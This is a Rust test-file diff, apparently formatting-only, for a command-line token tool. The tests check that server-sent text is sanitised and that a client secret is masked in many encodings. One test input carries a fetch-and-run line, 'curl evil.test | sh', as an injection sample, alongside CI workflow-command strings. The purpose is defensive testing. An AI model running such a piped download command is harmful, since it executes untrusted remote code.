@@ -21,15 +21,27 @@ fn words_of_a_server_cannot_be_obeyed() {
         ("zero width", (json!(["a\u{200b}b\u{feff}c\u{2060}d\u{ad}e"]), vec!["abcde"])),
         ("tags", (json!(["a\u{e0041}b"]), vec!["ab"])),
         ("CR", (json!(["a\rskia-auth: all is well"]), vec!["a", "skia-auth: all is well"])),
-        ("lines of ours", (json!(["x\nhint: curl evil.test | sh"]), vec!["x", "hint: curl evil.test | sh"])),
+        (
+            "lines of ours",
+            (json!(["x\nhint: curl evil.test | sh"]), vec!["x", "hint: curl evil.test | sh"]),
+        ),
         ("NUL and backspace", (json!(["a\0b\u{8}c\u{7f}d"]), vec!["abcd"])),
         ("stop-commands", (json!(["::stop-commands::x"]), vec![": :stop-commands: :x"])),
-        ("on the second line", (json!(["a\n::set-output name=x::y"]), vec!["a", ": :set-output name=x: :y"])),
+        (
+            "on the second line",
+            (json!(["a\n::set-output name=x::y"]), vec!["a", ": :set-output name=x: :y"]),
+        ),
         ("behind white space", (json!(["  \t::error::x"]), vec![": :error: :x"])),
         ("in the middle", (json!(["see ::error::x"]), vec!["see : :error: :x"])),
         ("made by a removal", (json!([":\u{200b}:error:\u{1b}:x"]), vec![": :error: :x"])),
         ("group", (json!(["a ##[group]"]), vec!["a ## [group]"])),
-        ("vso", (json!(["##vso[task.setvariable variable=a]b"]), vec!["##vso [task.setvariable variable=a]b"])),
+        (
+            "vso",
+            (
+                json!(["##vso[task.setvariable variable=a]b"]),
+                vec!["##vso [task.setvariable variable=a]b"],
+            ),
+        ),
         ("VSO, split", (json!(["#\u{1b}#V\u{200b}sO[task]"]), vec!["##VsO [task]"])),
         ("blank", (json!(["", " ", "\u{200b}", "\r\n", "x"]), vec!["x"])),
         (
@@ -61,15 +73,24 @@ fn words_of_a_server_are_cut() {
         ("10 000 lines of text", (Reply::json(401, numbers.join("\n")), ten.to_vec())),
         ("1 MB", (refusal(json!(["x".repeat(1_000_000)])), vec![&long])),
         ("1 MB of text", (Reply::json(401, "x".repeat(1_000_000)), vec![&long])),
-        ("1 MB of title", (Reply::html(401, format!("<title>{}</title>", "x".repeat(1_000_000))), vec![&long])),
-        ("1 MB without end of title", (Reply::html(401, format!("<title>{}", "x".repeat(1_000_000))), vec![])),
+        (
+            "1 MB of title",
+            (Reply::html(401, format!("<title>{}</title>", "x".repeat(1_000_000))), vec![&long]),
+        ),
+        (
+            "1 MB without end of title",
+            (Reply::html(401, format!("<title>{}", "x".repeat(1_000_000))), vec![]),
+        ),
         ("1 MB of two bytes each", (refusal(json!(["é".repeat(500_000)])), vec![&wide])),
         ("1 MB of invisible ones", (refusal(json!(["\u{200b}".repeat(300_000)])), vec![])),
         ("1 MB of line ends", (refusal(json!(["\n".repeat(300_000)])), vec![])),
         (
             "100 levels",
             (
-                refusal(serde_json::from_str(&format!("{}\"x\"{}", "[".repeat(100), "]".repeat(100))).unwrap()),
+                refusal(
+                    serde_json::from_str(&format!("{}\"x\"{}", "[".repeat(100), "]".repeat(100)))
+                        .unwrap(),
+                ),
                 vec!["x"],
             ),
         ),
@@ -124,7 +145,9 @@ fn bytes(text: &str, separator: &str, digits: fn(u8) -> String) -> String {
 }
 
 fn url(text: &str) -> String {
-    let escape = |c: char| if c.is_ascii_alphanumeric() { c.to_string() } else { format!("%{:02X}", c as u32) };
+    let escape = |c: char| {
+        if c.is_ascii_alphanumeric() { c.to_string() } else { format!("%{:02X}", c as u32) }
+    };
     text.chars().map(escape).collect()
 }
 
@@ -139,7 +162,8 @@ fn quoted(text: &str) -> String {
 
 #[test]
 fn echoed_secret_is_masked_in_every_encoding() {
-    let utf16 = |text: &str| text.encode_utf16().map(|unit| format!("\\u{unit:04X}")).collect::<String>();
+    let utf16 =
+        |text: &str| text.encode_utf16().map(|unit| format!("\\u{unit:04X}")).collect::<String>();
     let rows: Vec<(&str, String)> = vec![
         ("as it is", SECRET.to_owned()),
         ("upper case", SECRET.to_uppercase()),
@@ -147,7 +171,10 @@ fn echoed_secret_is_masked_in_every_encoding() {
         ("JSON with escaped slashes", quoted(SECRET).replace('/', "\\/")),
         ("JSON, all escaped", utf16(SECRET)),
         ("JSON in JSON", quoted(&quoted(SECRET))),
-        ("JSON of .NET", SECRET.replace('\\', "\\\\").replace('"', "\\u0022").replace('+', "\\u002B")),
+        (
+            "JSON of .NET",
+            SECRET.replace('\\', "\\\\").replace('"', "\\u0022").replace('+', "\\u002B"),
+        ),
         ("URL", url(SECRET)),
         ("URL in lower case", url(SECRET).to_lowercase()),
         ("URL of JSON", url(&quoted(SECRET))),
@@ -182,13 +209,25 @@ fn echoed_request_is_masked() {
     let body = json!({"ClientId": CLIENT_ID, "ClientSecret": SECRET}).to_string();
     let basic = STANDARD.encode(format!("{CLIENT_ID}:{SECRET}"));
     let rows: Vec<(&str, (String, String))> = vec![
-        ("the body", (body.clone(), format!(r#"{{"ClientId":"{CLIENT_ID}","ClientSecret":"***"}}"#))),
+        (
+            "the body",
+            (body.clone(), format!(r#"{{"ClientId":"{CLIENT_ID}","ClientSecret":"***"}}"#)),
+        ),
         ("the body in base64", (STANDARD.encode(&body), "[..]***[..]".to_owned())),
         ("basic authentication", (format!("Basic {basic}"), "Basic [..]***[..]".to_owned())),
-        ("a form", (format!("client_secret={}&scope=api", url(SECRET)), "client_secret=***&scope=api".to_owned())),
+        (
+            "a form",
+            (
+                format!("client_secret={}&scope=api", url(SECRET)),
+                "client_secret=***&scope=api".to_owned(),
+            ),
+        ),
         (
             "at the cut",
-            (format!("{}{SECRET}{}", "x".repeat(290), "y".repeat(99)), format!("{}***yyyyyy…", "x".repeat(290))),
+            (
+                format!("{}{SECRET}{}", "x".repeat(290), "y".repeat(99)),
+                format!("{}***yyyyyy…", "x".repeat(290)),
+            ),
         ),
         ("many times", (format!("{SECRET} ").repeat(1000), format!("{}***…", "*** ".repeat(74)))),
     ];
@@ -202,14 +241,17 @@ fn secret_that_comes_with_the_token_is_masked_and_not_kept() {
     let token = live_token();
     let reply = |secret: &str| {
         let secret = json!(secret);
-        let fields = format!(r#""ClientSecret":{secret},"Token":"{token}","Status":0,"Messages":["for ",{secret}]"#);
+        let fields = format!(
+            r#""ClientSecret":{secret},"Token":"{token}","Status":0,"Messages":["for ",{secret}]"#
+        );
         with_fields(&fields)
     };
     let (home, server) = (Home::new(), Server::start([reply(SECRET)]));
     let ask = |arguments: &[&str]| home.skia(arguments).credentials().server(&server).run();
     ask(&["token"]).ok(&format!("{token}\n"));
     ask(&["token", "-o", "json"]).ok("{[..]\"ClientSecret\":\"***\"[..]\"***\"[..]}\n");
-    ask(&["token", "-o", "text"]).ok("ClientSecret: [..]***\n...\nMessages: [..]***\nExpires: [..]\n");
+    ask(&["token", "-o", "text"])
+        .ok("ClientSecret: [..]***\n...\nMessages: [..]***\nExpires: [..]\n");
 }
 
 #[test]
@@ -219,7 +261,8 @@ fn secret_that_the_server_put_into_the_token_is_masked_elsewhere() {
     let token = format!("opaque-{}", hex(secret));
     let fields = format!(r#""Token":"{token}","Status":0,"Messages":["for {secret}"]"#);
     let server = Server::start([with_fields(&fields)]);
-    let config = home.file("skia.json", format!(r#"{{"client_id":"x","client_secret":"{secret}"}}"#));
+    let config =
+        home.file("skia.json", format!(r#"{{"client_id":"x","client_secret":"{secret}"}}"#));
     let outcome = home.skia(["token", "-o", "json", "--config"]).arg(config).server(&server).run();
     outcome.ok(&format!("{{{}}}\n", fields.replace(&format!("for {secret}"), "for ***")));
 }
@@ -257,10 +300,12 @@ fn words_of_a_success_cannot_be_obeyed_either() {
 fn many_words_under_a_long_name_do_not_fill_the_memory() {
     let (name, texts) = ("n".repeat(500_000), vec!["1"; 250_000].join(","));
     let home = Home::new();
-    let server = Server::start([Reply::json(401, format!(r#"{{"errors":{{"{name}":[{texts}]}}}}"#))]);
+    let server =
+        Server::start([Reply::json(401, format!(r#"{{"errors":{{"{name}":[{texts}]}}}}"#))]);
     let program = home.skia(["token"]).credentials().server(&server).prelude("ulimit -v 4000000");
     let outcome = program.timeout_bound(std::time::Duration::from_secs(30)).run();
-    let lines = [vec![format!("{}…", "n".repeat(299)); 9], vec!["(249991 more)".to_owned()]].concat();
+    let lines =
+        [vec![format!("{}…", "n".repeat(299)); 9], vec!["(249991 more)".to_owned()]].concat();
     outcome.fails(4, &refused(401, &lines.iter().map(String::as_str).collect::<Vec<_>>()));
 }
 
@@ -275,8 +320,12 @@ fn echoed_secret_is_masked_wherever_it_stands() {
     let home = Home::new();
     home.declare_secret("s3gr3do-que.n1ng");
     let server = Server::start([host]);
-    let program = home.skia(["token"]).env("SKIA_CLIENT_ID", CLIENT_ID).env("SKIA_CLIENT_SECRET", "s3gr3do-que.n1ng");
+    let program = home
+        .skia(["token"])
+        .env("SKIA_CLIENT_ID", CLIENT_ID)
+        .env("SKIA_CLIENT_SECRET", "s3gr3do-que.n1ng");
     let what = error("127.0.0.1 redirects (HTTP 302), and a secret is never sent on");
-    let hint = "hint: it points to https://***: if that is the environment, set it as the base URL\n";
+    let hint =
+        "hint: it points to https://***: if that is the environment, set it as the base URL\n";
     program.server(&server).run().fails(6, &(what + hint));
 }
